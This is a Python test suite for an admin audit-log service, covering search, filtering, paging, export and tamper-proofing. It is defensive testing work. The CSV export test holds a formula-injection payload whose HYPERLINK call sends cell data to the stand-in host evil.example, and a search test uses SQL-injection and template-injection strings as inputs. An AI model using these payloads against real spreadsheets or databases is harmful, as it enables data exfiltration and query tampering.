"""The audit log: searched, exported without formulas, and changed by nobody."""

import csv
import io
from typing import Any
from uuid import uuid4

import httpx2
import pytest
from sqlalchemy import delete, text, update
from sqlalchemy.exc import ProgrammingError

from models import AuditEvent
from services.spreadsheets import FORMULA_BEGINNINGS
from storage.database import MAINTENANCE, Database, Scope
from storage.repositories.audit import AuditRepository
from tests.support.accounts import Account, get_tokens, new_account
from tests.support.service import Person

pytestmark = pytest.mark.server

PATH = "/admin/audit"


async def events(client: httpx2.AsyncClient, admin: Person, **query: Any) -> list[dict[str, Any]]:
    response = await client.get(PATH, headers=admin.headers, params=query)
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["items"]
    return items


async def test_failed_and_right_sign_ins_are_found_by_address(
    client: httpx2.AsyncClient, admin: Person
) -> None:
    account = await new_account(client)
    await get_tokens(client, Account(account.email, "not this one at all"))
    await get_tokens(client, account)

    found = await events(client, admin, text=account.email.upper())

    assert [event["action"] for event in found] == [
        "session.start",
        "session.refuse",
        "user.create",
    ]
    refused = found[1]
    assert (refused["actor_id"], refused["address"]) == (None, "127.0.0.1")
    assert refused["details"] == {"email": account.email, "failures": 1}
    assert found[0]["actor_email"] == account.email


async def test_a_password_in_the_wrong_field_is_not_kept(
    client: httpx2.AsyncClient, admin: Person, database: Database
) -> None:
    secret = f"a secret {uuid4().hex}"

    await get_tokens(client, Account(secret, "x"))

    async with database.transaction(MAINTENANCE) as session:
        rows = text("SELECT string_agg(to_jsonb(audit_events)::text, ' ') FROM audit_events")
        assert secret not in (await session.scalar(rows) or "")
    newest = (await events(client, admin, action="session.refuse"))[0]
    assert newest["details"]["email"] is None


async def test_events_are_narrowed_by_action_actor_subject_and_time(
    client: httpx2.AsyncClient, admin: Person
) -> None:
    account = await new_account(client)
    await get_tokens(client, account)
    start, create = await events(client, admin, text=account.email)
    actor_id = start["actor_id"]

    by_noun = await events(client, admin, actor_id=actor_id, action="session")
    by_verb = await events(client, admin, actor_id=actor_id, action="user.create")
    part = await events(client, admin, actor_id=actor_id, action="sess")
    by_subject = await events(client, admin, subject=create["subject"])
    since = await events(client, admin, actor_id=actor_id, since=start["created_at"])
    until = await events(client, admin, actor_id=actor_id, until=start["created_at"])

    assert (by_noun, by_verb, part) == ([start], [create], [])
    assert (by_subject, since, until) == ([create], [start], [create])


async def test_keyset_pages_hold_each_event_once(
    client: httpx2.AsyncClient, admin: Person, database: Database
) -> None:
    subject = uuid4().hex
    async with database.transaction(Scope()) as session:
        for number in range(7):
            audit = AuditRepository(session)
            await audit.record("test.count", actor_id=None, subject=subject, details={"n": number})
    query: dict[str, Any] = {"subject": subject, "size": 3}
    numbers: list[int] = []

    for _ in range(3):
        page = (await client.get(PATH, headers=admin.headers, params=query)).json()
        numbers += [event["details"]["n"] for event in page["items"]]
        query["cursor"] = page["next_cursor"]

    assert sorted(numbers) == list(range(7))
    assert query["cursor"] is None


async def test_no_cell_of_an_exported_table_is_a_formula(
    client: httpx2.AsyncClient, admin: Person, database: Database
) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    subjects = [f"{beginning}{attack}" for beginning in FORMULA_BEGINNINGS]
    async with database.transaction(Scope()) as session:
        for subject in subjects:
            await AuditRepository(session).record("test.csv", actor_id=None, subject=subject)

    response = await client.get(
        f"{PATH}/export", headers=admin.headers, params={"action": "test.csv"}
    )

    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="audit.csv"' in response.headers["content-disposition"]
    assert sorted(row["subject"] for row in rows) == sorted(f"'{one}" for one in subjects)
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(FORMULA_BEGINNINGS)] == []


async def test_a_long_export_is_whole_json(
    client: httpx2.AsyncClient, admin: Person, database: Database
) -> None:
    subject = uuid4().hex
    async with database.transaction(MAINTENANCE) as session:
        statement = text(
            "INSERT INTO audit_events (id, action, subject)"
            " SELECT uuidv7(), 'test.many', :subject FROM generate_series(1, 1203)"
        )
        await session.execute(statement, {"subject": subject})
    query = {"subject": subject, "format": "json"}

    exported = await client.get(f"{PATH}/export", headers=admin.headers, params=query)
    none = await client.get(
        f"{PATH}/export", headers=admin.headers, params={"subject": "x", "format": "json"}
    )

    assert len({event["id"] for event in exported.json()}) == 1203
    assert none.json() == []
    assert (await events(client, admin, action="audit.export"))[0]["actor_id"] == str(admin.id)


@pytest.mark.parametrize("path", [PATH, f"{PATH}/export"])
async def test_only_admins_read_it(
    client: httpx2.AsyncClient, teacher: Person, student: Person, path: str
) -> None:
    responses = [await client.get(path, headers=one.headers) for one in (teacher, student)]

    assert [response.status_code for response in responses] == [403, 403]


@pytest.mark.parametrize(
    "query",
    [{"action": "x;y"}, {"since": "yesterday"}, {"text": "a\0b"}, {"cursor": "x"}],
)
async def test_bad_filters_are_named(
    client: httpx2.AsyncClient, admin: Person, query: dict[str, str]
) -> None:
    response = await client.get(PATH, headers=admin.headers, params=query)

    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == next(iter(query))


@pytest.mark.parametrize("text_searched", ["%", "_", "\\", "' OR 1=1 --", "{{7*7}}"])
async def test_what_is_searched_for_is_text(
    client: httpx2.AsyncClient, admin: Person, text_searched: str
) -> None:
    assert await events(client, admin, text=f"nobody-{text_searched}") == []


@pytest.mark.parametrize(
    ("scope", "statement"),
    [
        (Scope(), update(AuditEvent).values(action="x.y")),
        (MAINTENANCE, update(AuditEvent).values(action="x.y")),
        (Scope(), delete(AuditEvent)),
    ],
    ids=["changed by the application", "changed in maintenance", "deleted by the application"],
)
async def test_the_database_lets_nobody_change_it(
    database: Database, scope: Scope, statement: Any
) -> None:

    with pytest.raises(ProgrammingError, match="permission denied"):
        async with database.transaction(scope) as session:
            await session.execute(statement)
